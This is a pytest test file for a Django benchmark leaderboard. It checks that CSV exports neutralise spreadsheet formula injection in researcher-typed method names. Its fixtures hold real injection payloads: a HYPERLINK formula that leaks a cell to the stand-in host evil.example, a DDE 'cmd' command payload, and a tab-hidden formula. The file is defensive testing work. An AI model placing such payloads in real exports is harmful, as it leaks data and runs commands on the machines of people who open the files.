"""A method name is an agent's name, typed by a researcher: in the leaderboard's CSV (live and saved)
a formula in it comes out as text (benchmark.csv_tables), and the scores stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from benchmark.models import Leaderboard
from tests.benchmark.leaderboards.test_pages import make_run, task  # noqa: F401 (fixture)

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A2,"open")'


@pytest.fixture
def planted(task, researcher):  # noqa: F811 (the fixture above)
    make_run(task, method=PAYLOAD, owner=researcher, attempt=0.9)
    make_run(task, method="-2+3+cmd|' /C calc'!A0", owner=researcher, attempt=0.7)
    make_run(task, method="\t=1+1", owner=researcher, attempt=0.6)  # a tab hides the = from naive checks


def _methods(body: str) -> dict[str, dict[str, str]]:
    return {r["method"]: r for r in csv.DictReader(io.StringIO(body))}


def test_it_neutralises_formulas_in_method_names_of_the_live_download(client_for, researcher, planted) -> None:
    rows = _methods(
        client_for(researcher).get(reverse("benchmark:leaderboard_download", args=["csv"])).content.decode()
    )
    assert set(rows) == {"'" + PAYLOAD, "'-2+3+cmd|' /C calc'!A0", "'\t=1+1", "baseline"}
    assert float(rows["'" + PAYLOAD]["best_attempt"]) == 0.9  # numbers are not prefixed


def test_it_neutralises_formulas_in_method_names_of_a_saved_boards_download(client_for, researcher, planted) -> None:
    client = client_for(researcher)
    client.post(reverse("benchmark:leaderboard_save"), {"name": "formulas"})
    board = Leaderboard.objects.get()
    body = client.get(reverse("benchmark:leaderboard_detail_download", args=[board.code, "csv"])).content.decode()
    assert {"'" + PAYLOAD, "'\t=1+1"} <= set(_methods(body)) and PAYLOAD not in _methods(body)
